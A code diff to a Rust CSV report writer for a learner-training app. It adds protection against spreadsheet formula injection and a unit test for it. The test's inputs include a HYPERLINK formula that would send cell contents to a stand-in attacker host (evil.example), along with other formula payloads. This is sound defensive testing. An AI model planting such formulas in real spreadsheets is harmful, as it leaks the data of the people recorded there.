@@ -93,14 +93,34 @@ pub fn write_csv(
         .from_writer(out);
     w.write_record(header(tr))?;
     for r in rows {
-        let mut c = cells(r, course, tr, tz);
-        if !c[1].is_empty() {
-            c[1] = format!("=\"{}\"", c[1]);
-        }
+        let c: Vec<String> = cells(r, course, tr, tz)
+            .into_iter()
+            .enumerate()
+            .map(|(i, cell)| {
+                if i == 1 && !cell.is_empty() && cell.chars().all(|ch| ch.is_ascii_digit()) {
+                    format!("=\"{cell}\"")
+                } else {
+                    as_text(&cell).into_owned()
+                }
+            })
+            .collect();
         w.write_record(&c)?;
     }
     w.flush()?;
     Ok(())
+}
+
+/// A cell that Excel or Calc would take as a formula (it begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return) gets a leading apostrophe, so it is shown as the text it is: a
+/// learner's name typed on a kiosk keyboard, or carried in from another laptop, must not run
+/// as `=HYPERLINK(…)` on the mentor's computer. (Only a NIP of digits is written as `="…"`.)
+/// In the xlsx every such cell is a string cell, never a formula.
+pub fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// The report as an .xlsx file's bytes (see the module docs).
@@ -243,6 +263,52 @@ mod tests {
         assert!(lines[2].starts_with("Budi Santoso;;;Dasar"), "{}", lines[2]);
         assert!(lines[2].contains(";60;Belum;"), "{}", lines[2]);
         assert!(!text.contains("northstar-"), "never a raw id");
+    }
+
+    /// A name or unit that looks like a formula is written so that Excel and Calc show it as
+    /// text; so is a NIP that is not only digits.
+    #[test]
+    fn report_cells_that_look_like_formulas_are_text() {
+        let content = crate::course::load(None);
+        let tr = content.catalog.translator(crate::i18n::Lang::Id);
+        let row = |name: &str, nip: &str, unit: &str| ReportRow {
+            name: name.to_owned(),
+            nip: Some(nip.to_owned()),
+            unit: Some(unit.to_owned()),
+            module: "dasar".to_owned(),
+            done: 0,
+            total: 3,
+            score: None,
+            passed_at: None,
+            last_active: None,
+            standards: Vec::new(),
+        };
+        let rows = [
+            row(
+                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")",
+                "=1+1",
+                "@SUM(A1)",
+            ),
+            row("+1-2", "\"),HYPERLINK(\"x", "-3"),
+            row("\tTab", "", "Bagian Umum"),
+        ];
+        let mut out = Vec::new();
+        write_csv(&rows, &content.course, &tr, &TimeZone::UTC, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let mut lines = text.lines().skip(1);
+        assert_eq!(
+            lines.next().unwrap(),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\")\";'=1+1;'@SUM(A1);\
+             Dasar: mouse dan keyboard;0;3;;;;;"
+        );
+        assert_eq!(
+            lines.next().unwrap(),
+            "'+1-2;\"\"\"),HYPERLINK(\"\"x\";'-3;Dasar: mouse dan keyboard;0;3;;;;;"
+        );
+        assert_eq!(
+            lines.next().unwrap(),
+            "'\tTab;;Bagian Umum;Dasar: mouse dan keyboard;0;3;;;;;"
+        );
     }
 
     #[test]
